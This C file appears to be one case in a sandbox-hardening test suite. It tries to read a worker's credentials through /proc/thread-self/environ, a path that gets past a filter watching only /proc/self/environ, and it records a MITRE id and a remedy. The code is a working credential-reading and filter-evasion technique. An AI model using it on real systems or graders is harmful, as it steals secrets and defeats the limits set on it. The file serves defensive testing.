// SPDX-License-Identifier: MIT
/*
 * Goal:  the worker's credentials, although clearenv(3) was called and a filter knows the name
 *        /proc/self/environ.
 * Means: /proc/thread-self/environ, the same block under the calling thread's own link.
 */
#include "attacks/proc-read/neighbours.h"

#include <fcntl.h>

static enum claim run(const struct brief *b)
{
	int fd;

	clearenv(); /* what a cleanup in the worker's own process does */
	attempting(b);
	fd = open("/proc/thread-self/environ", O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return denied("open /proc/thread-self/environ");
	if (loot_environ(fd))
		return CLAIM_DONE;
	errno = ENOENT;
	return denied("/proc/thread-self/environ");
}

const struct attack attack = {
	.effect = "the worker's credentials leave in the student's output",
	.means = "/proc/thread-self/environ, a spelling that filters on names forget",
	.oracle = "secret:environ",
	.id = "ENV-06",
	.attack_id = "T1552.001, CWE-526",
	.remedy = "execve(2) with a built environment; clearing it in the same process is too late",
	.refs = (const char *const[]){ "proc(5)", NULL },
	.run = run,
};
